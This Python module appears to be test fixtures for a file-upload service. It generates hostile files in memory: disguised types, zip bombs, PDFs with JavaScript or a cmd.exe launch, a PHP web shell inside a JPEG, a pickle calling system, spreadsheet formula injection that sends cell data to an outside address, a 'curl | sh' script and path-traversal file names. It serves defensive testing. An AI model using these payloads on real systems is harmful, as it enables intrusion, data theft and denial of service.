"""Files that somebody sends to do harm, made by code: nothing of it is kept anywhere.

Each says what it is by its bytes, for that decides what may become of it: a ``sheet`` or a ``text`` is read by a
process of its own, a ``pdf``, ``jpeg`` or ``png`` is kept as it is and never opened, and ``nothing`` is refused.
"""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

from bench.hostile_sheets import SHEETS, a_workbook, an_archive

PDF_END = b"\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01"
SCRIPT = b"<script>alert(document.cookie)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MANY_MEMBERS = 120_000


class HostileFile(NamedTuple):
    """A file with the name it is sent under, and what it is by its bytes."""

    told: str
    name: str
    is_a: str
    make: Callable[[], bytes]
    is_large: bool = False


def _always(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def _pdf(inside: bytes) -> bytes:
    return b"%PDF-1.7\n2 0 obj\n" + inside + b"\nendobj" + PDF_END


def _many_members() -> bytes:
    """A directory of a hundred thousand members that all point to one: fifteen megabytes say it."""
    local = b"PK\x03\x04" + struct.pack("<5H3I2H", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = b"PK\x01\x02" + struct.pack("<6H3I5H2I", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * MANY_MEMBERS
    count = min(MANY_MEMBERS, 65_535)
    return local + directory + b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, count, count, len(directory), len(local), 0)


def _zip_in_zip() -> bytes:
    inner = b"0" * 5_000_000
    for _ in range(5):
        written = io.BytesIO()
        with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(4):
                archive.writestr(f"{number}.zip", inner)
        inner = written.getvalue()
    return inner


# Named like a spreadsheet, a proof or a document, and something else.
_DISGUISED: tuple[tuple[str, str, bytes], ...] = (
    ("a picture named .xlsx", "heures.xlsx", b"GIF89a" + bytes(60)),
    ("a bitmap named .xlsx", "heures.xlsx", b"BM" + bytes(60)),
    ("a WebP named .pdf", "preuve.pdf", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(60)),
    ("a TIFF named .png", "preuve.png", b"II*\x00" + bytes(60)),
    ("a page named .xlsx", "heures.xlsx", b"<!DOCTYPE html><table><tr><td>Nom</td></tr></table>" + SCRIPT),
    ("a page after a byte order mark", "heures.csv", b"\xef\xbb\xbf \n<html>" + SCRIPT),
    ("a page named .pdf", "preuve.pdf", b"<html>" + SCRIPT),
    ("a drawing that runs a script", "preuve.svg", b'<svg onload="alert(1)"/>'),
    ("a web archive", "heures.xls", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT),
    ("a rich text", "heures.xls", b"{\\rtf1\\object\\objupdate}"),
    ("a spreadsheet of 2003 in XML", "heures.xls", b'<?xml version="1.0"?><Workbook/>'),
    ("an old Word document", "heures.xls", OLE + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(512)),
    ("a protected workbook", "heures.xlsx", OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(512)),
    ("a program for Windows", "heures.xlsx.exe", b"MZ\x90\x00" + bytes(200)),
    ("a program for Linux", "preuve.pdf", b"\x7fELF\x02\x01\x01" + bytes(200)),
    ("a gzip", "heures.csv", b"\x1f\x8b\x08\x00" + bytes(20)),
    ("a bzip2", "heures.csv", b"BZh91AY&SY" + bytes(20)),
    ("an xz", "heures.csv", b"\xfd7zXZ\x00" + bytes(20)),
    ("a RAR", "heures.xlsx", b"Rar!\x1a\x07\x00" + bytes(20)),
    ("a 7z", "heures.xlsx", b"7z\xbc\xaf\x27\x1c" + bytes(20)),
    ("a database", "heures.xlsx", b"SQLite format 3\x00" + bytes(100)),
    (
        "a pickle",
        "heures.csv",
        b"\x80\x04\x95\x1b" + bytes(7) + b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    ),
    ("nothing at all", "heures.xlsx", b""),
    ("spaces", "heures.csv", b" \r\n \t\r\n"),
    ("zeros", "preuve.pdf", bytes(4096)),
    ("a byte order mark alone", "heures.csv", b"\xef\xbb\xbf"),
    ("a PDF without its end", "preuve.pdf", b"%PDF-1.7\n1 0 obj\n<<"),
    ("a PDF that begins late", "preuve.pdf", b"GARBAGE\n%PDF-1.7" + PDF_END),
    ("half a PNG", "preuve.png", b"\x89PNG\r\n\x1a\n\x00"),
    ("an archive of documents", "heures.xlsx", an_archive({"word/document.xml": b"<w/>"})),
    ("a Java archive", "heures.xlsx", an_archive({"META-INF/MANIFEST.MF": b"Main-Class: X"})),
    ("the mark of an archive alone", "heures.xlsx", b"PK\x03\x04"),
    ("an end without an archive", "heures.xlsx", b"PK\x05\x06" + bytes(18)),
    ("bytes of all kinds", "heures.csv", bytes(range(1, 32)) * 20),
)

# Nothing in their first bytes gives these away: the process that reads sheets finds out.
_FOUND_OUT_LATER = {
    "an old Word document", "a database", "a pickle", "a PDF that begins late", "bytes of all kinds",
}  # fmt: skip

# True by its first bytes, and something more besides: kept as it is, never opened, never shown as anything else.
_CARRIERS: tuple[tuple[str, str, str, bytes], ...] = (
    ("a PDF with JavaScript", "preuve.pdf", "pdf", _pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    ("a PDF that opens a program", "preuve.pdf", "pdf", _pdf(b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>")),
    (
        "a PDF with an attachment",
        "preuve.pdf",
        "pdf",
        _pdf(b"<< /Type /EmbeddedFile >> stream\nMZ\nendstream"),
    ),
    ("a PDF that is an archive too", "preuve.pdf", "pdf", b"%PDF-1.7\n" + a_workbook() + PDF_END),
    ("a PDF that is a page too", "preuve.pdf", "pdf", b"%PDF-1.7\n<html>" + SCRIPT + PDF_END),
    ("a PDF with two extensions", "preuve.exe.pdf", "pdf", _pdf(b"<< >>")),
    ("a PDF under a path", "../../etc/cron.d/preuve.pdf", "pdf", _pdf(b"<< >>")),
    ("a PDF under a name that turns", "preuve\u202efdp.exe.pdf", "pdf", _pdf(b"<< >>")),
    ("a PDF under a name with a quote", 'a";filename="x.html.pdf', "pdf", _pdf(b"<< >>")),
    ("a PDF under a very long name", "n" * 4000 + ".pdf", "pdf", _pdf(b"<< >>")),
    ("a picture that is a page too", "preuve.png", "png", PNG + SCRIPT),
    (
        "a picture of a million dots a side",
        "preuve.png",
        "png",
        PNG[:16] + struct.pack(">2I", 10**6, 10**6) + b"\x08\x02",
    ),
    ("a photograph with a program in it", "preuve.jpg", "jpeg", JPEG + b"<?php system($_GET['c']); ?>"),
    ("a photograph that is an archive too", "preuve.jpg", "jpeg", JPEG + an_archive({"x.html": SCRIPT})),
)

_TEXTS: tuple[tuple[str, bytes], ...] = (
    ("formulas of all kinds", b"Nom;Heures\n=cmd|' /C calc'!A0;1\n+1+1;2\n-2+3;3\n@SUM(1);4\n\t=1;5\n"),
    ("a formula of text that calls home", b'Nom;Heures\n"=WEBSERVICE(""https://9.9.9.9/""&A1)";1\n'),
    ("UTF-7", b"Nom;Heures\n+ADw-script+AD4-;1\n"),
    ("UTF-16 without its mark", "Nom;Heures\nA;1\n".encode("utf-16-le")),
    ("UTF-32", "Nom;Heures\nA;1\n".encode("utf-32")),
    ("EBCDIC", "Nom;Heures\nA;1\n".encode("cp500")),
    ("no known encoding", b"Nom;Heures\n\x81\x8d\x8f\x90\x9d\n"),
    ("zeros in the middle", b"Nom;Heures\nA\x00B;1\n"),
    ("lone surrogates", b"Nom;Heures\n\xed\xa0\x80;1\n"),
    ("a script", b"#!/bin/sh\ncurl 9.9.9.9 | sh\n"),
    ("a page of PHP", b"<?php system($_GET['c']); ?>"),
    ("rights to left", "Nom;Heures\n\u202eABC;1\n".encode()),
    ("text of 300 columns", b";".join([b"x"] * 300)),
    ("a quote that never ends", b'Nom;Heures\n"' + b"x;1\n" * 20_000),
    ("a cell of a megabyte", b"Nom;Heures\n" + b"x" * 1_000_000 + b";1\n"),
    ("a bracket a hundred thousand times", b"[" * 100_000),
    ("a number of a million digits", b'{"marches":{"marche":[{"montant":' + b"9" * 1_000_000 + b"}]}}"),
    ("an exponent without end", b'{"marches":{"marche":[{"montant":1e999999999}]}}'),
    ("numbers that are none", b'{"marches":{"marche":[{"montant":NaN,"duree":-Infinity}]}}'),
    ("the same name twice", b'{"marches":{"marche":[]},"marches":{"marche":[{"id":"\\u0000\\ud800"}]}}'),
    ("a proto in JSON", json.dumps({"marches": {"marche": [{"__proto__": {"a": 1}}]}}).encode()),
)


def _large() -> Iterator[HostileFile]:
    yield HostileFile("a directory of 120 000 members", "pieces.xlsx", "nothing", _many_members, is_large=True)
    yield HostileFile("archives inside archives", "heures.xlsx", "nothing", _zip_in_zip, is_large=True)
    yield HostileFile("ten million rows of nothing", "heures.csv", "text", lambda: b";\n" * 10_000_000, is_large=True)
    yield HostileFile("a cell of 24 MB", "heures.csv", "text", lambda: b"x" * 24_000_000, is_large=True)
    yield HostileFile("one byte too many", "heures.csv", "text", lambda: b"A;1\n" * 6_250_001, is_large=True)
    yield HostileFile("a compressed text", "heures.csv", "text", lambda: zlib.compress(bytes(10**8), 9), is_large=True)


def hostile_files() -> list[HostileFile]:
    """All of them, the small ones first."""
    found = [
        HostileFile(told, name, "text" if told in _FOUND_OUT_LATER else "nothing", _always(content))
        for told, name, content in _DISGUISED
    ]
    found += [HostileFile(told, name, is_a, _always(content)) for told, name, is_a, content in _CARRIERS]
    found += [HostileFile(told, "heures.csv", "text", _always(content)) for told, content in _TEXTS]
    found += [HostileFile(told, name, "sheet", make) for told, name, make in SHEETS]
    return sorted([*found, *_large()], key=lambda one: one.is_large)
